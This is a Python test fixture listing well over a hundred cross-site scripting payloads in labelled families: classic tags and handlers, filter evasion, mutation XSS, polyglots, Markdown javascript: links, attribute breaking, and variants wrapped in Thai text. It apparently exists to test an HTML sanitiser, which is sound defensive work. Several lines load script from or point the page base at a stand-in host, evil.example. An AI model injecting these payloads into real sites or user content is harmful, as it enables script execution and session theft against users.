"""A corpus of cross-site scripting attempts, written for these tests.

Families: classic tags and handlers, filter evasion (case, encodings, broken tags, null and
control characters), mutation XSS (markup a parser rewrites into something active), polyglots,
dangerous URL schemes in links, images and forms (also through Markdown), attribute breaking,
and all of them with Thai text around them. Every payload, if it ever ran, would call
``alert`` or set ``window.__xss`` — what the browser test watches for.
"""

CLASSIC = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script>window.__xss=1</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'>",
    '<img src="x" onerror="window.__xss=1">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onmouseover=alert(1)>hover</div>",
    "<a href=javascript:alert(1)>click</a>",
    '<a href="javascript:alert(1)">click</a>',
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    "<table background=javascript:alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<keygen autofocus onfocus=alert(1)>",
]

EVASION = [
    "<ScRiPt>alert(1)</sCrIpT>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>",
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="jav&#x0A;ascript:alert(1)">newline</a>',
    '<a href=" &#14; javascript:alert(1)">control</a>',
    '<a href="javascript&colon;alert(1)">colon</a>',
    "<a href=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>x</a>",  # noqa: E501
    '<a href="JaVaScRiPt:alert(1)">case</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="livescript:alert(1)">ls</a>',
    "<svg/onload=alert(1)>",
    "<svg\nonload=alert(1)>",
    "<body/onload=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img src=x onerror=alert(1) ",
    "<scr\u0131pt>alert(1)</scr\u0131pt>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<img src=x onerror=\"window['al'+'ert'](1)\">",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
]

MUTATION = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><td><style><img src=x onerror=alert(1)></style></td></table>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<a title="a`b" href=x>`<img src=x onerror=alert(1)>`</a>',
    '<p id="x"><a href="<img src=x onerror=alert(1)>">x</a></p>',
    "<select><option><img src=x onerror=alert(1)></option></select>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
]

POLYGLOTS = [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",  # noqa: E501
    "'\"><img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '-->\'"/></sCript><svG x=">" onload=alert(1)>',
    '";alert(1);//',
    "';alert(1);//",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<x onclick=alert(1)>click",
]

MARKDOWN = [
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![img](javascript:alert(1))",
    '![img](x"onerror="alert(1))',
    '[a](x" onclick="alert(1))',
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    '[x](https://example.org"onmouseover="alert(1))',
    "```\n</code><script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "**<img src=x onerror=alert(1)>**",
    "> <script>alert(1)</script>",
    "* <a href=javascript:alert(1)>x</a>",
    "[![x](x)](javascript:alert(1))",
    "<data:text/html,<script>alert(1)</script>>",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
]

ATTRIBUTE_BREAKING = [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    '"><svg onload=alert(1)>',
    "' style='background:url(javascript:alert(1))",
    '" style="x:expression(alert(1))',
    'x" href="javascript:alert(1)',
    '"/><img src=x onerror=alert(1)>',
]

THAI = [
    "ถนนพัง<script>alert(1)</script>ซ่อมด่วน",
    "ไฟดับ<img src=x onerror=alert(1)>ทั้งซอย",
    "[ดูรูปถนน](javascript:alert(1))",
    'น้ำท่วม"><svg onload=alert(1)>หน้าตลาด',
    "ขยะล้น' onmouseover='alert(1)",
    '<a href="javascript:alert(1)">เว็บไซต์เทศบาล</a>',
    "สวนสาธารณะ<iframe src=javascript:alert(1)></iframe>",
    "ทางเท้า<details open ontoggle=alert(1)>ดูเพิ่ม</details>",
    "โรงเรียน<math><mtext><script>alert(1)</script></mtext></math>",
    'ตลาดสด<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "เด็กเล็ก![รูป](javascript:alert(1))",
    "สุขภาพ<body onload=alert(1)>",
]

BASE = CLASSIC + EVASION + MUTATION + POLYGLOTS + MARKDOWN + ATTRIBUTE_BREAKING + THAI
# With Thai text on both sides too: sanitisers have been fooled by what surrounds a tag.
PAYLOADS = BASE + [f"ข้อเสนอ {payload} ของประชาชน" for payload in CLASSIC + EVASION[:15]]

assert len(set(PAYLOADS)) >= 150, len(set(PAYLOADS))
